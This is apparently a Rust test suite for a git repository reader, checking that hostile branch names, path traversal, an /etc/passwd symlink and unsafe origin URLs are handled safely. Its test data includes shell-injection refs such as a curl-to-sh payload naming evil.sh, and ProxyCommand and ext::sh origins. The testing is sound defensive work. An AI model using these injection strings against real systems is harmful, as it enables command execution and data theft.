//! What is read of real repositories, evil refs included.

#![expect(clippy::unwrap_used, reason = "a test may panic")]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use tempfile::TempDir;
use towline_domain::filter::ChangedFiles;
use towline_domain::names::{CommitSha, GitRef, RepositoryId, RepositoryName};
use towline_ports::{Admission, FileAt, Relation, Repositories, RepositoryRef, Source};

use towline_ports::admission;

use crate::*;

/// INVARIANTS 2.4: refs that Git allows and shells do not forgive.
const EVIL: [&str; 23] = [
    "a$(curl${IFS}evil.sh|sh)",
    "x;id",
    "x`id`",
    "x&&id",
    "x|sh",
    "x'y",
    "x\"y",
    "x{a,b}",
    "x#y",
    "x%0a",
    "x<y>",
    "x=y",
    "${{github.token}}",
    "{{x}}",
    "!!python",
    "null",
    "yes",
    "@",
    "HEAD",
    "refs/heads/x",
    "-upload-pack=touch",
    "--help",
    "a\u{202e}b",
];

/// A folder with a repository `origin` in it.
struct World {
    dir: TempDir,
}

impl World {
    fn new() -> Self {
        let dir = TempDir::new().unwrap();
        let world = Self { dir };
        fs::create_dir(world.origin()).unwrap();
        world.git(&["init", "-q", "-b", "main"]);
        world
    }

    fn origin(&self) -> PathBuf {
        self.dir.path().join("origin")
    }

    fn git(&self, arguments: &[&str]) -> String {
        let output = Command::new("git")
            .current_dir(self.origin())
            .args(["-c", "user.name=Ada L", "-c", "user.email=ada@example.com"])
            .args(["-c", "commit.gpgSign=false", "-c", "tag.gpgSign=false"])
            .env_clear()
            .env("PATH", env!("PATH"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_COMMITTER_DATE", "2026-01-02T03:04:05Z")
            .args(arguments)
            .output()
            .unwrap();
        assert!(output.status.success(), "git {arguments:?}: {output:?}");
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    }

    fn write(&self, path: &str, content: &str) {
        let path = self.origin().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }

    fn commit(&self, message: &str) -> CommitSha {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "--allow-empty", "-m", message]);
        self.git(&["rev-parse", "HEAD"]).parse().unwrap()
    }

    fn source(&self) -> GitSource {
        open(
            self.dir.path(),
            vec![registered("acme/shop", &self.origin())],
        )
        .unwrap()
    }

    fn repository(&self) -> RepositoryRef {
        RepositoryRef {
            id: local_id(&self.origin()).unwrap(),
            name: name("acme/shop"),
        }
    }
}

fn open(dir: &Path, repositories: Vec<Registered>) -> Result<GitSource, OpenError> {
    let surroundings = Surroundings {
        search_path: env!("PATH").into(),
        home: None,
    };
    GitSource::open(&dir.join("data"), &surroundings, repositories)
}

fn registered(text: &str, path: &Path) -> Registered {
    Registered {
        name: name(text),
        origin: Origin::Path(path.to_owned()),
    }
}

fn name(text: &str) -> RepositoryName {
    text.parse().unwrap()
}

#[tokio::test]
async fn files_are_read_at_the_commit_and_nothing_else_is() {
    let world = World::new();
    world.write(".towline.yml", "one");
    world.write("sub/file", "in a folder");
    world.write("*", "a star");
    let first = world.commit("first");
    world.write(".towline.yml", "two");
    std::os::unix::fs::symlink("/etc/passwd", world.origin().join("link")).unwrap();
    std::os::unix::fs::symlink("sub", world.origin().join("linked")).unwrap();
    let second = world.commit("second");
    let (source, repository) = (world.source(), world.repository());
    let read = async |commit: &CommitSha, path: &str| match source
        .file(&repository, commit, path, 100)
        .await
        .unwrap()
    {
        FileAt::Found(bytes) => Some(String::from_utf8(bytes).unwrap()),
        FileAt::Missing => None,
        other => panic!("{path:?}: {other:?}"),
    };
    for (commit, path, expected) in [
        (&first, ".towline.yml", Some("one")),
        (&second, ".towline.yml", Some("two")),
        (&second, "sub/file", Some("in a folder")),
        (&second, "*", Some("a star")),
        (&second, "link", None),
        (&second, "linked/file", None),
        (&second, "sub", None),
        (&second, "sub/", None),
        (&second, "absent", None),
        (&second, "../origin/.towline.yml", None),
        (&second, "/etc/passwd", None),
        (&second, "--help", None),
        (&second, ":(top)sub/file", None),
        (&second, "", None),
    ] {
        assert_eq!(read(commit, path).await.as_deref(), expected, "{path:?}");
    }
    let unknown: CommitSha = "f".repeat(40).parse().unwrap();
    for (commit, path, most, expected) in [
        (&second, "sub/file", 5, FileAt::TooLarge { bytes: 11 }),
        (&unknown, ".towline.yml", 100, FileAt::NoCommit),
        (&unknown, "../x", 100, FileAt::NoCommit),
    ] {
        let found = source.file(&repository, commit, path, most).await.unwrap();
        assert_eq!(found, expected, "{path:?}");
    }
}

#[tokio::test]
async fn an_origin_that_does_not_answer_is_no_origin_without_the_commit() {
    let world = World::new();
    let first = world.commit("first");
    let source = world.source();
    let repository = world.repository();
    let unknown: CommitSha = "f".repeat(40).parse().unwrap();
    let read = async |commit| source.file(&repository, commit, "x", 1).await;
    assert_eq!(read(&first).await.unwrap(), FileAt::Missing);
    fs::rename(world.origin(), world.dir.path().join("away")).unwrap();
    assert_eq!(read(&first).await.unwrap(), FileAt::Missing);
    let error = read(&unknown).await.unwrap_err();
    assert_eq!(error.to_string(), "fetching acme/shop");
    // The connection may also go between fetching the refs and asking for the commit alone.
    fs::rename(world.dir.path().join("away"), world.origin()).unwrap();
    let folder = world.dir.path().join("bin");
    fs::create_dir(&folder).unwrap();
    let script = format!(
        "#!/bin/sh\ncase \"$*\" in *{unknown}|*ls-remote*) echo no route >&2; exit 128; esac\n\
         PATH='{}' exec git \"$@\"\n",
        env!("PATH")
    );
    executable(&folder.join("git"), &script);
    let surroundings = Surroundings {
        search_path: format!("{}:{}", folder.display(), env!("PATH")).into(),
        home: None,
    };
    let registered = vec![registered("acme/shop", &world.origin())];
    let source = GitSource::open(&world.dir.path().join("data"), &surroundings, registered);
    let source = source.unwrap();
    let read = source.file(&repository, &unknown, "x", 1).await;
    assert_eq!(
        read.unwrap_err().to_string(),
        format!("fetching {unknown} of acme/shop")
    );
}

/// Written by another process: one forked meanwhile by another test could hold our file open for
/// writing, and then it would not start.
fn executable(path: &Path, script: &str) {
    let mut child = Command::new("sh")
        .args(["-c", "cat >\"$0\" && chmod 755 \"$0\""])
        .arg(path)
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), script.as_bytes()).unwrap();
    assert!(child.wait().unwrap().success());
}

#[test]
fn commands_left_at_work_in_a_mirror_are_gone_before_it_is_opened() {
    use std::io::{BufRead as _, BufReader};
    let world = World::new();
    world.commit("first");
    drop(world.source());
    let data = world.dir.path().canonicalize().unwrap().join("data");
    let mirror = data.join("mirrors/acme/shop.git");
    fs::create_dir_all(&mirror).unwrap();
    let lock = mirror.join("HEAD.lock");
    let start = |git_dir: &Path, script: &str| {
        let mut child = Command::new("sh")
            .args(["-c", script])
            .env("GIT_DIR", git_dir)
            .env("LOCK", &lock)
            .stdout(std::process::Stdio::piped())
            .stdin(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        let output = child.stdout.as_mut().unwrap();
        BufReader::new(output).read_line(&mut line).unwrap();
        assert_eq!(line, "ready\n");
        child
    };
    let willing = "trap 'rm \"$LOCK\"; exit 0' TERM; echo >\"$LOCK\"; echo ready; read _ ; exit 9";
    let mut orphans = [
        start(&mirror, "trap '' TERM; echo ready; read _; exit 9"),
        start(&mirror, "echo ready; read _; exit 9"),
        start(
            &mirror.with_extension("git.new"),
            "echo ready; read _; exit 9",
        ),
        start(&mirror, willing),
    ];
    let mut others = [
        start(
            &data.join("mirrors/acme/shop.git2"),
            "echo ready; read _; exit 9",
        ),
        start(&world.origin(), "echo ready; read _; exit 9"),
    ];
    orphans::end(&mirror, std::time::Duration::from_millis(200)).unwrap();
    drop(world.source());
    for orphan in &mut orphans {
        assert_ne!(orphan.try_wait().unwrap().map(|status| status.code()), None);
    }
    for other in &mut others {
        assert_eq!(other.try_wait().unwrap(), None);
        drop(other.stdin.take());
        assert_eq!(other.wait().unwrap().code(), Some(9));
    }
}

#[tokio::test]
async fn a9_heads_of_evil_refs_are_their_own() {
    let world = World::new();
    let tree = {
        world.commit("first");
        world.git(&["rev-parse", "HEAD^{tree}"])
    };
    let mut expected = Vec::new();
    for branch in EVIL {
        let commit = world.git(&["commit-tree", "-m", branch, &tree]);
        world.git(&["update-ref", &format!("refs/heads/{branch}"), &commit]);
        expected.push((branch, commit));
    }
    let (source, repository) = (world.source(), world.repository());
    for (branch, commit) in expected {
        let git_ref = GitRef::Branch(branch.into());
        let head = source.head(&repository, &git_ref).await.unwrap();
        assert_eq!(
            head.map(|head| head.to_string()),
            Some(commit),
            "{branch:?}"
        );
    }
}

#[tokio::test]
async fn a12_a_ref_is_itself_and_never_an_expression() {
    let world = World::new();
    let first = world.commit("first");
    world.git(&["tag", "-a", "-m", "release", "v1"]);
    world.git(&["tag", "main"]);
    let second = world.commit("second");
    world.git(&["branch", "topic/one", "refs/heads/main"]);
    let blob = world.git(&["hash-object", "-w", "/dev/null"]);
    world.git(&["update-ref", "refs/tags/blob", &blob]);
    let (source, repository) = (world.source(), world.repository());
    for (git_ref, expected) in [
        ("refs/heads/main", Some(&second)),
        ("refs/tags/main", Some(&first)),
        ("refs/tags/v1", Some(&first)),
        ("refs/tags/blob", None),
        ("refs/heads/v1", None),
        ("refs/heads/topic", None),
        ("refs/heads/main~1", None),
        ("refs/heads/main^{tree}", None),
        ("refs/heads/*", None),
        ("refs/heads/main:sub", None),
    ] {
        let git_ref: GitRef = git_ref.parse().unwrap();
        let head = source.head(&repository, &git_ref).await.unwrap();
        assert_eq!(head.as_ref(), expected, "{git_ref}");
    }
    world.git(&["checkout", "-q", "--detach", "refs/heads/main"]);
    world.git(&["branch", "-q", "-D", "topic/one"]);
    world.git(&["branch", "-q", "topic", "refs/heads/main"]);
    let topic = GitRef::Branch("topic".into());
    assert_eq!(
        source.head(&repository, &topic).await.unwrap(),
        Some(second)
    );
}

#[tokio::test]
async fn commits_relate_and_differ_even_after_a_forced_push() {
    let world = World::new();
    world.write("a", "1");
    let first = world.commit("first");
    world.write("b\n\u{e9}", "1");
    world.git(&["mv", "a", "c"]);
    let second = world.commit("second");
    world.git(&["reset", "-q", "--hard", first.as_str()]);
    let other = world.commit("other");
    let (source, repository) = (world.source(), world.repository());
    let unknown: CommitSha = "f".repeat(40).parse().unwrap();
    for (one, two, expected) in [
        (&first, &first, Relation::Same),
        (&first, &second, Relation::Behind),
        (&second, &first, Relation::Ahead),
        (&second, &other, Relation::Diverged),
        (&second, &unknown, Relation::Diverged),
    ] {
        let relation = source.relation(&repository, one, two).await.unwrap();
        assert_eq!(relation, expected, "{one} {two}");
    }
    let changed = async |base| source.changed_files(&repository, base, &second).await;
    assert_eq!(
        changed(&first).await.unwrap(),
        ChangedFiles::Known(vec!["a".into(), "b\n\u{e9}".into(), "c".into()])
    );
    assert!(matches!(
        changed(&unknown).await.unwrap(),
        ChangedFiles::Unknown(_)
    ));
}

#[tokio::test]
async fn too_many_changed_files_are_unknown() {
    let world = World::new();
    let first = world.commit("first");
    for number in 0..=10_000 {
        fs::write(world.origin().join(format!("f{number}")), "").unwrap();
    }
    let second = world.commit("many");
    let (source, repository) = (world.source(), world.repository());
    let changed = source.changed_files(&repository, &first, &second).await;
    assert_eq!(
        changed.unwrap(),
        ChangedFiles::Unknown("more than 10000 files changed".into())
    );
}

#[tokio::test]
async fn a10_a_commit_tells_its_title_author_and_time() {
    let world = World::new();
    let message = format!(
        "fix $(id) cart\u{1b}[31m\n\ncommands:\n{}",
        "x".repeat(100_000)
    );
    let commit = world.commit(&message);
    let info = world
        .source()
        .commit(&world.repository(), &commit)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(info.title.display(), "fix $(id) cart\u{fffd}[31m");
    assert_eq!(info.author.display(), "Ada L");
    assert_eq!(info.at.to_string(), "2026-01-02T03:04:05Z");
}

#[tokio::test]
async fn a_new_commit_is_fetched_once_it_is_asked_for() {
    let world = World::new();
    world.commit("first");
    let (source, repository) = (world.source(), world.repository());
    let main = GitRef::Branch("main".into());
    source.head(&repository, &main).await.unwrap();
    world.write("late", "yes");
    let late = world.commit("late");
    let asked: Vec<_> = (0..4)
        .map(|_| source.file(&repository, &late, "late", 10))
        .collect();
    for answer in asked {
        assert_eq!(answer.await.unwrap(), FileAt::Found(b"yes".into()));
    }
    let mirror = source.mirror_path(repository.id).unwrap();
    let found = source.mirror_with(&repository, &late).await.unwrap();
    assert_eq!(found, Some(mirror.clone()));
    // A lock that a killed command left behind does not outlive the process that it belonged to.
    fs::write(mirror.join("packed-refs.lock"), "").unwrap();
    drop(source);
    let source = world.source();
    world.git(&["branch", "-q", "-m", "main", "trunk"]);
    assert_eq!(source.head(&repository, &main).await.unwrap(), None);
}

#[tokio::test]
async fn a7_a8_an_id_is_bound_once_and_for_good() {
    let world = World::new();
    let repositories = || {
        vec![
            registered("acme/shop", &world.origin()),
            Registered {
                name: name("acme/other"),
                origin: "https://git.example.com/acme/other.git".parse().unwrap(),
            },
        ]
    };
    let local = world.repository();
    let source = open(world.dir.path(), repositories()).unwrap();
    assert_eq!(known(&source), vec![local]);
    let reopened = || open(world.dir.path(), repositories()).unwrap();
    let admitted = |id| {
        let registered = if id == 7 { "acme/shop" } else { "acme/other" };
        Admission::Admitted(RepositoryRef {
            id: RepositoryId(id),
            name: name(registered),
        })
    };
    let file = world.dir.path().canonicalize().unwrap();
    let file = file.join("data/repositories.json");
    let impostor = |id, name: &str| Admission::Impostor {
        known: RepositoryId(id),
        remedy: format!(
            "stop Towline, take {name} out of {} and start it again",
            file.display()
        ),
    };
    let clone = admission::local(1).0;
    let claims = [
        (7, "attacker/repo", Admission::Unknown),
        (7, "acme/shop", admitted(7)),
        (7, "Acme/Shop", admitted(7)),
        (clone, "acme/shop", admitted(7)),
        // Made anew under the old name.
        (8, "acme/shop", impostor(7, "acme/shop")),
        // Renamed, even to a name that is registered for another repository.
        (7, "acme/renamed", admitted(7)),
        (7, "acme/other", admitted(7)),
        // A clone is pushed first, then the webhook is set up.
        (clone, "acme/other", admitted(clone)),
        (9, "acme/other", admitted(clone)),
        (10, "acme/other", impostor(9, "acme/other")),
        (clone + 1, "acme/other", admitted(clone)),
    ];
    for (number, source) in [source, reopened(), reopened()].iter().enumerate() {
        let first = usize::from(number > 0); // known by then
        for (id, claimed, expected) in &claims[first..] {
            let claim = RepositoryRef {
                id: RepositoryId(*id),
                name: name(claimed),
            };
            let admission = source.admit(&claim).await.unwrap();
            assert_eq!(admission, *expected, "{id} {claimed}");
        }
        let bound = [(7, "acme/shop"), (clone, "acme/other")].map(|(id, text)| RepositoryRef {
            id: RepositoryId(id),
            name: name(text),
        });
        assert_eq!(known(source), bound);
    }
    let source = reopened();
    let stranger = RepositoryRef {
        id: RepositoryId(99),
        name: name("acme/shop"),
    };
    let commit = "f".repeat(40).parse().unwrap();
    let refused = source.file(&stranger, &commit, "x", 1).await.unwrap_err();
    assert_eq!(
        refused.to_string(),
        "acme/shop (id 99) is not registered here"
    );
}

#[tokio::test]
async fn a8_a_repository_renamed_here_and_there_keeps_its_id() {
    let world = World::new();
    let served = |text: &str| {
        let origin = format!("https://git.example.com/{text}.git");
        let registered = Registered {
            name: name(text),
            origin: origin.parse().unwrap(),
        };
        open(world.dir.path(), vec![registered]).unwrap()
    };
    let clone = admission::local(1).0;
    for (text, id, expected) in [
        ("acme/shop", clone, clone),
        ("acme/shop", 7, clone),
        ("Acme/Store", 7, clone),
        ("acme/store", clone, clone),
        ("acme/else", 8, 8),
    ] {
        let claim = RepositoryRef {
            id: RepositoryId(id),
            name: name(text),
        };
        let source = served(text);
        let expected = Admission::Admitted(RepositoryRef {
            id: RepositoryId(expected),
            name: name(text),
        });
        assert_eq!(source.admit(&claim).await.unwrap(), expected, "{text} {id}");
    }
}

#[tokio::test]
async fn a_repository_that_is_no_repository_says_so() {
    let world = World::new();
    let empty = world.dir.path().join("empty");
    fs::create_dir(&empty).unwrap();
    let source = open(world.dir.path(), vec![registered("acme/empty", &empty)]).unwrap();
    let repository = known(&source).remove(0);
    let main = GitRef::Branch("main".into());
    let error = source.head(&repository, &main).await.unwrap_err();
    assert_eq!(error.to_string(), "fetching acme/empty");
    let cause = std::error::Error::source(&error).unwrap().to_string();
    assert!(
        cause.contains("does not appear to be a git repository"),
        "{cause}"
    );
}

#[test]
fn repositories_are_registered_once_and_exist() {
    let world = World::new();
    let refused = |repositories| {
        open(world.dir.path(), repositories)
            .err()
            .unwrap()
            .to_string()
    };
    let origin = world.origin();
    let twice = vec![registered("a/b", &origin), registered("A/B", &origin)];
    assert!(refused(twice).contains("A/B is registered twice"));
    let absent = vec![registered("a/b", &origin.join("absent"))];
    assert_eq!(refused(absent), "opening the repository a/b");
}

#[test]
fn a24_origins_are_folders_or_addresses_without_secrets() {
    for good in [
        "https://git.example.com/a/b.git",
        "ssh://git@git.example.com:22/a/b",
    ] {
        assert_eq!(good.parse(), Ok(Origin::Url(good.into())));
    }
    assert_eq!("../shop".parse(), Ok(Origin::Path("../shop".into())));
    for (bad, expected) in [
        ("", "is not fetched from"),
        ("ext::sh -c id://x", "is not fetched from"),
        ("http://git.example.com/a", "is not fetched from"),
        ("file:///etc", "is not fetched from"),
        ("ssh://-oProxyCommand=id/a", "is not fetched from"),
        ("ssh://git@-oProxyCommand=id/a", "is not fetched from"),
        ("https://git.example.com/a\nb", "control character"),
        (
            "https://me:secret@git.example.com/a",
            "the address of git.example.com holds a user, password or token",
        ),
        (
            "https://secret@git.example.com/a",
            "the address of git.example.com holds a user, password or token",
        ),
        (
            "ssh://git:secret@git.example.com/a",
            "the address of git.example.com holds a user, password or token",
        ),
        ("http://secret@git.example.com/a", "is not fetched from"),
        ("ssh://secret@-git.example.com/a", "is not fetched from"),
        ("ssh://secret@git.example.com/a b", "control character"),
    ] {
        let error = bad.parse::<Origin>().unwrap_err().to_string();
        assert!(error.contains(expected), "{bad}: {error}");
        assert!(!error.contains("secret"), "{error}");
    }
}

/// Every repository that knows its id.
fn known(source: &GitSource) -> Vec<RepositoryRef> {
    let known = source.ids().into_iter().filter_map(|known| {
        Some(RepositoryRef {
            id: known.ids.canonical()?,
            name: known.name,
        })
    });
    known.collect()
}
